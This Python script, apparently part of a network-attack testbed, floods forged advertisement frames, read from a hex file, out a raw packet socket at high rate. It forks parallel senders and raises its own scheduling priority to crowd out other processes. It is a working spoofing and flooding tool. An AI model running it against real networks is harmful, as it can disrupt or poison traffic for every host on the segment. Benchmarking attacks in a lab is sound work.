"""Sends forged advertisements as fast as it can, or at a rate.

Run by path on the attacker's node, standard library only. Frames are hexadecimal lines of a file and sent in turn; the
number sent and the seconds it took are written to another file at the end. With a rate it goes ahead of everybody else
where the kernel permits, as an attacker whose processors are his own; the kernel delivers a frame within the call that
sends it, 10 to 12 us of one processor to two nodes, so one process sends 80,000 a second and no more.
"""

import contextlib
import ctypes
import os
import signal
import socket
import sys
import time
from pathlib import Path
from typing import BinaryIO

BATCH = 64
PAUSE = 0.0005
PROCESS_RATE = 80_000.0
MOST_SECONDS = 60.0
PR_SET_PDEATHSIG = 1
PACKET_QDISC_BYPASS = 20
SOL_PACKET = 263


class Iovec(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


class Message(ctypes.Structure):
    """struct mmsghdr."""

    _fields_ = (
        ("name", ctypes.c_void_p),
        ("name_length", ctypes.c_uint),
        ("vector", ctypes.POINTER(Iovec)),
        ("vectors", ctypes.c_size_t),
        ("control", ctypes.c_void_p),
        ("control_length", ctypes.c_size_t),
        ("flags", ctypes.c_int),
        ("sent", ctypes.c_uint),
    )


def batches(frames: list[bytes]) -> list[ctypes.Array[Message]]:
    """The frames as arrays for sendmmsg(2), each full."""
    while len(frames) % BATCH:
        frames = frames + frames[: BATCH - len(frames) % BATCH]
    made = []
    for first in range(0, len(frames), BATCH):
        array = (Message * BATCH)()
        for message, frame in zip(array, frames[first : first + BATCH], strict=True):
            buffer = ctypes.create_string_buffer(frame, len(frame))
            message.vector = ctypes.pointer(Iovec(ctypes.addressof(buffer), len(frame)))
            message.vectors = 1
            KEPT.append(buffer)
        made.append(array)
    return made


KEPT: list[ctypes.Array[ctypes.c_char]] = []
"""Buffers that the kernel reads."""


def main() -> None:
    """``INTERFACE SECONDS RATE FRAMES SAID``; rate 0: as fast as one process goes, at ordinary priority."""
    interface, seconds, rate = sys.argv[1], min(float(sys.argv[2]), MOST_SECONDS), float(sys.argv[3])
    made = batches([bytes.fromhex(line) for line in Path(sys.argv[4]).read_text().split()])
    if rate:
        go_ahead()
    senders = min(os.cpu_count() or 1, max(1, -int(-rate // PROCESS_RATE)))
    began = time.monotonic()
    end = began + seconds
    helpers = [forked(interface, made, end, rate / senders) for _ in range(senders - 1)]
    sent = send(interface, made, end, rate / senders) + sum(int(pipe.read()) for pipe in helpers)
    Path(sys.argv[5]).write_text(f"{sent} {time.monotonic() - began}")


def forked(interface: str, made: list[ctypes.Array[Message]], end: float, rate: float) -> BinaryIO:
    """Another process that sends and then writes how many; it dies with this one."""
    read, write = os.pipe()
    if not os.fork():
        ctypes.CDLL(None).prctl(PR_SET_PDEATHSIG, signal.SIGKILL)
        os.write(write, str(send(interface, made, end, rate)).encode())
        os._exit(0)
    os.close(write)
    return open(read, "rb")


def go_ahead() -> None:
    """Of every process, and of every group of processes that the scheduler makes of a session."""
    with contextlib.suppress(OSError):
        os.setpriority(os.PRIO_PROCESS, 0, -20)
        Path("/proc/self/autogroup").write_text("-20")


def send(interface: str, made: list[ctypes.Array[Message]], end: float, rate: float) -> int:
    """Send until then, in turn; how many left."""
    libc = ctypes.CDLL(None)
    sent = turn = 0
    began = time.monotonic()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as wire:
        wire.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
        wire.bind((interface, 0))
        while (now := time.monotonic()) < end:
            if rate and sent > (now - began) * rate:
                time.sleep(PAUSE)
                continue
            sent += max(0, libc.sendmmsg(wire.fileno(), made[turn % len(made)], BATCH, 0))
            turn += 1
    return sent


if __name__ == "__main__":
    main()
